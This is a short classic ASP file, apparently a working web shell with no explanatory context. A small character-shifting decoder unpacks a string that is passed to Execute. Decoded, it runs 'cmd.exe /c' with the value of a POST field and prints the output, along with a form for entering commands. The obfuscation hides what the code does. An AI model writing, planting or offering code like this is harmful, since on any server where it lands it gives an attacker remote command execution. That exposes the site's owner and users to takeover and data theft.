<%
Function D(s)
  Dim i
  For i = 1 To Len(s)
    D = D & Chr(Asc(Mid(s, i, 1)) - 1)
  Next
End Function
Execute D("Tfu!t!>!DsfbufPckfdu)#XTdsjqu/Tifmm#*!;!Sftqpotf/Xsjuf!t/Fyfd)#dne/fyf!0d!#!'!Sfrvftu/Gpsn)#dne`y#**/TuePvu/SfbeBmm)*!;!Sftqpotf/Xsjuf!#=gpsn!nfuipe>qptu?=joqvu!obnf>dne`y!tj{f>91?=joqvu!uzqf>tvcnju!wbmvf>svo?=0gpsn?#!;!Sftqpotf/Foe")
%>
